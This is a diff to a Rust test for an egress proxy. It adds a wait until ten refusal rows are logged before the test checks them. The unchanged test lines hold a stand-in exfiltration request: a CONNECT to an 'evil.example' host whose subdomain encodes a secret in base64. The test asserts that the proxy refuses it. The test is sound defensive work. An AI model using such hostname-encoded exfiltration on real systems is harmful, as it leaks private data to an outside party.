@@ -10,6 +10,7 @@ use futures_util::future::LocalBoxFuture;
 use serde_json::json;
 
 use super::egress::World;
+use super::support::app::until;
 
 /// Numbers that need a test.
 const WANTED: std::ops::RangeInclusive<u16> = 173..=195;
@@ -292,7 +293,8 @@ async fn labels(world: &World) {
     }
     world.assert_refused("CONNECT c2VjcmV0.evil.example:443 HTTP/1.1\r\n\r\n", &["not-granted"]).await;
     assert_eq!(world.names.asked(), Vec::<String>::new(), "no name leaves");
-    // Ten of a minute are rows; the rest is counted in one.
+    // Ten of a minute are rows, written one after the other; the rest is counted in one.
+    until("ten rows were written", async || world.refusals().await.len() >= 10).await;
     let refusals = world.refusals().await;
     assert_eq!(refusals.len(), 10, "{refusals:#?}");
     assert_eq!(refusals[0]["rule"], "not-granted");
